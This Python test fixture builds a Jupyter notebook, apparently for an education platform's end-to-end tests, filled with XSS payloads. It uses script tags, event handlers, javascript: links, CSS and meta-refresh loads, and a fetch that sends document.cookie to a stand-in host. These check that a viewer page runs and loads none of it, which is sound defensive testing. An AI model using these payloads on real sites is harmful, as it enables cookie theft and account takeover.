"""A notebook with everything in it that a page would run, load or send, if it were let."""

import json
from typing import Any, Final

from tests.e2e.platform import STRANGER

#: What a teacher is there to read.
TEXT: Final = "평균은 3.5"
_SCRIPT: Final = f"window.attacked = top.attacked = parent.attacked = 1; fetch('{STRANGER}/stolen?' + document.cookie)"
_MARKDOWN: Final = f"""# 1주차 과제
<script>{_SCRIPT}</script>
<img src="x" onerror="{_SCRIPT}">
<img src="{STRANGER}/stolen">
<svg onload="{_SCRIPT}"><circle r="1"/></svg>
<iframe src="javascript:{_SCRIPT}"></iframe>
<object data="{STRANGER}/stolen"></object>
<meta http-equiv="refresh" content="0; url={STRANGER}/stolen">
<base href="{STRANGER}/">
<link rel="stylesheet" href="{STRANGER}/stolen">
<style>@import url("{STRANGER}/stolen"); body {{ background: url({STRANGER}/stolen) }}</style>
<form action="{STRANGER}/stolen" method="post"><button autofocus onfocus="{_SCRIPT}">눌러 주세요</button></form>

[선생님, 여기를 보세요](javascript:top.attacked=1)
"""


def attacking_notebook() -> str:
    """Return the notebook's file."""
    html = {"text/html": [_MARKDOWN.replace("# 1주차 과제", "<p>결과</p>")], "text/plain": "표"}
    return json.dumps(
        {
            "nbformat": 4,
            "nbformat_minor": 5,
            "metadata": {"title": "</title><script>window.attacked = 1</script>"},
            "cells": [
                {"cell_type": "markdown", "id": "a", "metadata": {}, "source": _MARKDOWN},
                {
                    "cell_type": "code",
                    "id": "b",
                    "metadata": {},
                    "execution_count": 1,
                    "source": "print('평균은', sum([1, 2, 3, 4, 5, 6]) / 6)",
                    "outputs": [
                        {"output_type": "stream", "name": "stdout", "text": f"{TEXT}\n"},
                        _output(html),
                        _output({"application/javascript": _SCRIPT}),
                        _output({"image/svg+xml": f'<svg onload="{_SCRIPT}"/>'}),
                    ],
                },
            ],
        },
        ensure_ascii=False,
    )


def _output(data: dict[str, Any]) -> dict[str, Any]:
    return {"output_type": "display_data", "metadata": {}, "data": data}
